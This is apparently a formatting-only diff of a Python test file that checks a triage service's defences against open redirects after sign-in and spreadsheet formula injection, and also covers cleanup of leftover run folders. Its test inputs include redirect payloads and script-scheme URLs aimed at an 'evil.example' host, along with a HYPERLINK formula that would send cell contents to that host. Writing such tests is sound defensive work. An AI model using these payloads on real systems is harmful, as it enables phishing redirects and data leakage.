@@ -1,4 +1,5 @@
 """Small unsafe defaults: redirects after sign-in, spreadsheet formulas, leftover run folders."""
+
 from __future__ import annotations
 
 import csv
@@ -14,16 +15,34 @@ from triage.spreadsheet import neutralise, write_csv
 
 
 # ----------------------------------------------------------------- safe_next
-@pytest.mark.parametrize("target", [
-    "/\t/evil.example", "/\n/evil.example", "/\r/x", "/\x00x", "//evil.example",
-    "/\\evil.example", "https://evil.example/", "javascript:alert(1)", "/\u2028/x",
-    "/\u00a0/evil.example", "/\ufeff/x", "", None, 5, "x/y", "/" + "a" * 3000])
+@pytest.mark.parametrize(
+    "target",
+    [
+        "/\t/evil.example",
+        "/\n/evil.example",
+        "/\r/x",
+        "/\x00x",
+        "//evil.example",
+        "/\\evil.example",
+        "https://evil.example/",
+        "javascript:alert(1)",
+        "/\u2028/x",
+        "/\u00a0/evil.example",
+        "/\ufeff/x",
+        "",
+        None,
+        5,
+        "x/y",
+        "/" + "a" * 3000,
+    ],
+)
 def test_safe_next_sends_anything_but_a_plain_local_path_home(target):
     assert safe_next(target, "/home") == "/home"
 
 
-@pytest.mark.parametrize("target", ["/portal/tickets/3", "/agent/?queue=triage&x=%2F%2F",
-                                    "/signin?next=%2Fagent"])
+@pytest.mark.parametrize(
+    "target", ["/portal/tickets/3", "/agent/?queue=triage&x=%2F%2F", "/signin?next=%2Fagent"]
+)
 def test_safe_next_keeps_local_paths(target):
     assert safe_next(target, "/home") == target
 
@@ -32,9 +51,15 @@ def test_safe_next_keeps_local_paths(target):
 def pages_client(tmp_path):
     from service.app import create_app
 
-    app = create_app({"TESTING": True, "TRIAGE_LOAD": "off", "TRIAGE_API_KEYS": "ak:admin",
-                      "TRIAGE_SIGHUP": False,
-                      "TRIAGE_DATABASE_URL": f"sqlite:///{tmp_path / 't.db'}"})
+    app = create_app(
+        {
+            "TESTING": True,
+            "TRIAGE_LOAD": "off",
+            "TRIAGE_API_KEYS": "ak:admin",
+            "TRIAGE_SIGHUP": False,
+            "TRIAGE_DATABASE_URL": f"sqlite:///{tmp_path / 't.db'}",
+        }
+    )
     return app.test_client()
 
 
@@ -42,16 +67,14 @@ def pages_client(tmp_path):
 def test_signin_with_a_control_character_in_next_never_500s(pages_client, target):
     page = pages_client.get("/signin")
     token = page.get_data(as_text=True).split('name="csrf_token" value="')[1].split('"')[0]
-    r = pages_client.post("/signin", data={"kind": "staff", "key": "ak", "csrf_token": token,
-                                           "next": target})
+    r = pages_client.post("/signin", data={"kind": "staff", "key": "ak", "csrf_token": token, "next": target})
     assert r.status_code == 302
     assert r.headers["Location"].startswith("/") and "evil" not in r.headers["Location"]
     assert "\n" not in r.headers["Location"] and "\t" not in r.headers["Location"]
 
 
 # ----------------------------------------------------------------- spreadsheets
-@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\")", "+1+2", "-2+3", "@SUM(A1)",
-                                  "\t=1", "\r=1"])
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://x")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
 def test_formula_cells_are_neutralised(text):
     assert neutralise(text) == "'" + text
     assert neutralise("plain " + text) == "plain " + text
@@ -61,8 +84,7 @@ def test_formula_cells_are_neutralised(text):
 def test_label_quality_review_list_is_formula_safe(tmp_path):
     from training.label_quality import Flag, write_review_list
 
-    flags = [Flag("category", 1, 0, '=HYPERLINK("http://evil.example/?"&A1)', "=1+1", "@x",
-                  0.9, 0.1, 0.8)]
+    flags = [Flag("category", 1, 0, '=HYPERLINK("http://evil.example/?"&A1)', "=1+1", "@x", 0.9, 0.1, 0.8)]
     out = write_review_list(flags, tmp_path / "flagged.csv")
     with open(out, newline="", encoding="utf-8") as fh:
         rows = list(csv.DictReader(fh))
@@ -105,8 +127,13 @@ def test_a_hard_killed_gunicorn_leaves_no_run_folder_after_the_next_start(tmp_pa
     from serving import free_port, stop
 
     root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
-    env = {**os.environ, "TMPDIR": str(tmp_path), "TRIAGE_LOAD": "off", "TRIAGE_WORKERS": "1",
-           "PYTHONPATH": root}
+    env = {
+        **os.environ,
+        "TMPDIR": str(tmp_path),
+        "TRIAGE_LOAD": "off",
+        "TRIAGE_WORKERS": "1",
+        "PYTHONPATH": root,
+    }
     env.pop("PROMETHEUS_MULTIPROC_DIR", None)
     env.pop("TRIAGE_RUN_DIR", None)
 
@@ -114,10 +141,14 @@ def test_a_hard_killed_gunicorn_leaves_no_run_folder_after_the_next_start(tmp_pa
         port = free_port()
         env["TRIAGE_BIND"] = f"127.0.0.1:{port}"
         start.base = f"http://127.0.0.1:{port}"
-        return subprocess.Popen([sys.executable, "-m", "gunicorn", "-c",
-                                 os.path.join(root, "service", "gunicorn_conf.py")],
-                                cwd=root, env=env, stdout=subprocess.DEVNULL,
-                                stderr=subprocess.DEVNULL, start_new_session=True)
+        return subprocess.Popen(
+            [sys.executable, "-m", "gunicorn", "-c", os.path.join(root, "service", "gunicorn_conf.py")],
+            cwd=root,
+            env=env,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+            start_new_session=True,
+        )
 
     def folders():
         return sorted(p.name for p in tmp_path.glob("triage-run-*"))
